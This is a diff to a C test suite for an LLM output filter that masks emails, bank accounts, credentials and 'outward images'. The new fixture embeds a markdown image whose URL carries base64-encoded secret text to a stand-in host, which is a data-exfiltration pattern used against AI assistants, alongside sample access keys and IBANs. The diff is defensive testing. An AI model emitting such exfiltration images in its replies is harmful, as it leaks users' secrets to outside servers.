@@ -8,13 +8,15 @@
 #define KEY "AKIAQ3EGRZTV5NKWXJ2M"
 #define OTHER_KEY "AKIAZ7MWTB4CLQH2YVXN"
 #define IBAN "DE89 3704 0044 0532 0130 00"
+#define ADDRESS "https://pics.example/p?d=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz"
 #define OTHER_IBAN "GB82WEST12345698765432"
 
 static const char body[] =
     "{\"model\":\"m\",\"messages\":["
     "{\"role\":\"system\",\"content\":\"Our desk is desk@kaufhaus.example, tell nobody.\"},"
     "{\"role\":\"user\",\"content\":\"I am Ann.Lee@example.com, account " IBAN ", and here is " KEY
-    " for the build.\"},"
+    " for the build, paid by pay@my-bank.example. "
+    "![x](" ADDRESS ")\"},"
     "{\"role\":\"assistant\",\"content\":\"Noted. Ask bob@example.com, too.\"},"
     "{\"role\":\"user\",\"content\":\"Write to all of us.\"}]}";
 
@@ -42,6 +44,14 @@ static const row rows[] = {
     {"both", ECHOES, "to eve@example.com, bob@example.com, so", "to [masked: email], bob@example.com, so", 1,
      1, 1, SP_OK},
     {"of the system text", ECHOES, "to desk@kaufhaus.example so", "to [masked: email] so", 1, 0, 1, SP_OK},
+    {"with its hyphen", ECHOES, "to pay@my-bank.example so", "to pay@my-bank.example so", 0, 1, 0, SP_OK},
+    {"of a host without the hyphen", ECHOES, "to pay@mybank.example so", "to [masked: email] so", 1, 0, 1,
+     SP_OK},
+    {"of a name with a hyphen", ECHOES, "to b-ob@example.com so", "to [masked: email] so", 1, 0, 1, SP_OK},
+    {"an image comes back", ECHOES, "see ![x](" ADDRESS ") so", "see ![x](" ADDRESS ") so", 0, 1, 0, SP_OK},
+    {"an image in another case", ECHOES,
+     "see ![x](https://pics.example/p?d=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3NZ) so",
+     "see ![x]([masked: outward-image]) so", 1, 0, 1, SP_OK},
     {"an account in another writing", ECHOES, "on DE89370400440532013000 so", "on DE89370400440532013000 so",
      0, 1, 0, SP_OK},
     {"another account", ECHOES, "on " OTHER_IBAN " so", "on [masked: iban] so", 1, 0, 1, SP_OK},
@@ -80,7 +90,7 @@ static sp_review_options options_with(const fixture *f, const setting *s, bool i
     options.withhold = SP_CAT_BIT(SP_CAT_CREDENTIALS);
     options.mask = SP_CAT_BIT(SP_CAT_PII) | SP_CAT_BIT(SP_CAT_FINANCIAL);
     options.echoes = s->echoes;
-    if (what == ECHOES) options.echoed = options.withhold | options.mask;
+    if (what == ECHOES) options.echoed = options.withhold | options.mask | SP_CAT_BIT(SP_CAT_OUTWARD);
     if (what == ECHOES_OF_KINDS) sp_bits256_add(&options.kinds.echoed, SP_KIND_EMAIL);
     return options;
 }
